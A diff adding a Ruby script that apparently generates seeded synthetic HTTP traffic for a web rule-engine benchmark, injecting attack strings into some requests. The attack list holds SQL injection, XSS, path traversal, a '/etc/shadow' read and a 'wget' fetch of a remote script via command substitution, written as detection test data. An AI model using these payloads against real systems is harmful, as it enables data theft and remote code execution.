@@ -0,0 +1,109 @@
+# ClippScript for the rule engine benchmark corpus.
+#
+# Generates a fixed mix of traffic: browsing, form and JSON posts, and a
+# share of attacks, several transactions to a connection, as raw
+# connection data so parsing is part of the measurement.  The mix depends
+# only on the seed, so every run of the benchmark sees the same input.
+#
+# Environment:
+# - CLIPP_BENCH_CONNECTIONS -- Connections to generate; default 2000.
+# - CLIPP_BENCH_SEED        -- Random seed; default 1.
+
+rng = Random.new((ENV['CLIPP_BENCH_SEED'] || 1).to_i)
+connections = (ENV['CLIPP_BENCH_CONNECTIONS'] || 2000).to_i
+
+paths = %w{
+  / /index.html /index.php /search /login /account/settings /cart/add
+  /api/v1/items /api/v1/orders /static/css/site.css /static/js/app.js
+  /images/logo.png /blog/2014/05/a-post-with-a-longer-name /help/faq
+}
+words = %w{
+  alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo
+  lima mike november oscar papa quebec romeo sierra tango uniform
+}
+agents = [
+  'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/35.0.1916.153 Safari/537.36',
+  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_3) AppleWebKit/537.76.4 (KHTML, like Gecko) Version/7.0.4 Safari/537.76.4',
+  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:30.0) Gecko/20100101 Firefox/30.0',
+  'curl/7.35.0'
+]
+attacks = [
+  "1' OR '1'='1",
+  "1 UNION SELECT username, password FROM users--",
+  "1; DROP TABLE orders",
+  "<script>alert(document.cookie)</script>",
+  "\"><img src=x onerror=alert(1)>",
+  "../../../../etc/passwd",
+  "..%2f..%2f..%2fwindows%2fwin.ini",
+  "; cat /etc/shadow",
+  "$(wget http://example.com/x.sh)",
+  "sleep(10)#"
+]
+
+word  = lambda { words[rng.rand(words.size)] }
+value = lambda { Array.new(1 + rng.rand(3)) { word.() }.join('+') }
+args  = lambda do |n, attack|
+  a = Array.new(n) { |i| "#{word.()}#{i}=#{value.()}" }
+  a[rng.rand(n)] = "q=#{attacks[rng.rand(attacks.size)]}" if attack && n > 0
+  a.join('&')
+end
+
+request = lambda do |attack|
+  path = paths[rng.rand(paths.size)]
+  headers = [
+    "Host: www.example.com",
+    "User-Agent: #{agents[rng.rand(agents.size)]}",
+    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+    "Accept-Language: en-US,en;q=0.5",
+    "Cookie: session=#{rng.rand(1 << 62).to_s(16)}; pref=#{word.()}"
+  ]
+  case rng.rand(10)
+  when 0..5
+    query = args.(rng.rand(5), attack)
+    uri = query.empty? ? path : "#{path}?#{query}"
+    ["GET #{uri} HTTP/1.1", *headers, "", ""].join("\r\n")
+  when 6..8
+    body = args.(2 + rng.rand(9), attack)
+    headers << "Content-Type: application/x-www-form-urlencoded"
+    headers << "Content-Length: #{body.length}"
+    ["POST #{path} HTTP/1.1", *headers, "", body].join("\r\n")
+  else
+    fields = Array.new(2 + rng.rand(6)) { |i| "\"#{word.()}#{i}\": \"#{value.()}\"" }
+    fields << "\"q\": \"#{attacks[rng.rand(attacks.size)].gsub('"', '\\"')}\"" if attack
+    body = "{#{fields.join(', ')}}"
+    headers << "Content-Type: application/json"
+    headers << "Content-Length: #{body.length}"
+    ["POST #{path} HTTP/1.1", *headers, "", body].join("\r\n")
+  end
+end
+
+response = lambda do
+  case rng.rand(20)
+  when 0
+    ["HTTP/1.1 404 Not Found", "Content-Length: 0", "", ""].join("\r\n")
+  when 1
+    ["HTTP/1.1 302 Found", "Location: /login", "Content-Length: 0", "", ""].join("\r\n")
+  else
+    body = "<html><head><title>#{word.()}</title></head><body>\n" +
+      Array.new(16 + rng.rand(240)) { "<p>#{Array.new(8) { word.() }.join(' ')}</p>\n" }.join +
+      "</body></html>\n"
+    [
+      "HTTP/1.1 200 OK",
+      "Content-Type: text/html; charset=utf-8",
+      "Set-Cookie: seen=#{rng.rand(1000)}",
+      "Content-Length: #{body.length}",
+      "", body
+    ].join("\r\n")
+  end
+end
+
+connections.times do |i|
+  connection(id: "bench-#{i}", remote_port: 1024 + i % 60000) do |c|
+    (1 + rng.rand(4)).times do
+      c.transaction do |t|
+        t.connection_data_in(data: request.(rng.rand(10) == 0))
+        t.connection_data_out(data: response.())
+      end
+    end
+  end
+end